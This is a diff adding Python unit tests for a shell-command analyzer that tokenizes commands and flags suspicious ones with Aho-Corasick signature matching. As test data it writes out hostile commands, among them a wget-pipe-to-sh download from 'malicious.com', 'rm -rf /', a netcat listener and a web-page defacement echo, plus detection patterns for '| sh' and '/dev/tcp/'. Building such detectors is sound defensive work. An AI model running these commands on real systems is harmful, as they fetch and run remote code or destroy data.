@@ -0,0 +1,96 @@
+import os
+import sys
+import tempfile
+import unittest
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, os.path.join(HERE, '..', 'core_ml'))
+sys.path.insert(0, HERE)
+
+from command_analysis import AhoCorasick, CommandAnalyzer, Signature, load_signatures, tokenize
+from logsrunner import suspicious_commands
+
+class TestTokenize(unittest.TestCase):
+    def test_splits_pipes_and_chains(self):
+        self.assertEqual(tokenize("wget http://x/a.sh -O- | sh && rm -f a.sh; id"),
+                         [['wget', 'http://x/a.sh', '-O-'], ['sh'], ['rm', '-f', 'a.sh'], ['id']])
+
+    def test_drops_redirect_targets(self):
+        self.assertEqual(tokenize("echo 'hacked' > /var/www/html/index.html"), [['echo', 'hacked']])
+
+    def test_subshells_and_backticks(self):
+        self.assertEqual(tokenize("echo `uname -a` $(whoami)"), [['echo'], ['uname', '-a'], ['whoami']])
+
+    def test_shell_scripts_are_tokenized_in_turn(self):
+        commands = tokenize("bash -c 'cd /tmp; chmod +x x'")
+        self.assertIn(['cd', '/tmp'], commands)
+        self.assertIn(['chmod', '+x', 'x'], commands)
+
+    def test_unbalanced_quotes_fall_back_to_words(self):
+        self.assertEqual(tokenize("echo 'oops"), [['echo', "'oops"]])
+
+class TestAhoCorasick(unittest.TestCase):
+    def test_failure_links_find_overlapping_patterns(self):
+        matcher = AhoCorasick([('he', 0), ('she', 1), ('his', 2), ('hers', 3)])
+        self.assertEqual(sorted(matcher.search('ushers')), [0, 1, 3])
+
+    def test_fallback_after_partial_match(self):
+        # 'abd' fails at 'd', and the failure link from 'ab' must still reach 'bd'
+        matcher = AhoCorasick([('abc', 0), ('bd', 1)])
+        self.assertEqual(matcher.search('abd'), [1])
+
+    def test_repeated_occurrences(self):
+        matcher = AhoCorasick([('aa', 0)])
+        self.assertEqual(matcher.search('aaaa'), [0, 0, 0])
+
+    def test_no_patterns(self):
+        self.assertEqual(AhoCorasick([]).search('anything'), [])
+
+class TestLoadSignatures(unittest.TestCase):
+    def test_file_format(self):
+        with tempfile.TemporaryDirectory() as tmp:
+            path = os.path.join(tmp, 'signatures.txt')
+            with open(path, 'w', encoding='utf-8') as f:
+                f.write("# comment\n\nprogram:wget\nsubstring:| sh\tpipe-to-sh\n/dev/tcp/\nprogram:\n")
+            signatures = load_signatures(path)
+        self.assertEqual(signatures, [
+            Signature('program:wget', 'program', 'wget'),
+            Signature('pipe-to-sh', 'substring', '| sh'),
+            Signature('substring:/dev/tcp/', 'substring', '/dev/tcp/'),
+        ])
+
+    def test_default_signatures_load(self):
+        analyzer = CommandAnalyzer.from_file()
+        self.assertTrue(analyzer.signatures)
+
+class TestCommandAnalyzer(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.analyzer = CommandAnalyzer.from_file()
+
+    def test_every_generated_command_is_suspicious(self):
+        for command in suspicious_commands:
+            with self.subTest(command=command):
+                self.assertTrue(self.analyzer.match(command))
+
+    def test_program_and_substring_hits(self):
+        hits = self.analyzer.match("wget http://malicious.com/malware.sh -O- | sh")
+        self.assertEqual(hits['program:wget'], 1)
+        self.assertEqual(hits['pipe-to-sh'], 1)
+
+    def test_wrapper_option_values_are_not_the_command(self):
+        self.assertEqual(self.analyzer.match("sudo -u root rm -rf /")['program:rm'], 1)
+        self.assertEqual(self.analyzer.match("timeout -s KILL 10 nc -lvp 4444")['program:nc'], 1)
+        self.assertEqual(self.analyzer.match("nice -n 5 xargs -I {} wget {}")['program:wget'], 1)
+        self.assertEqual(self.analyzer.match("env -u HOME FOO=1 chmod 777 x")['program:chmod'], 1)
+
+    def test_only_the_command_name_is_a_program(self):
+        self.assertEqual(self.analyzer.match("echo rm")['program:rm'], 0)
+
+    def test_analyze_counts_suspicious_commands(self):
+        result = self.analyzer.analyze(["ls", "uname -a", "rm -rf /"])
+        self.assertEqual(result.suspicious, 2)
+        self.assertEqual(self.analyzer.top_signatures(1)[0][1], 1)
+
+if __name__ == "__main__":
+    unittest.main()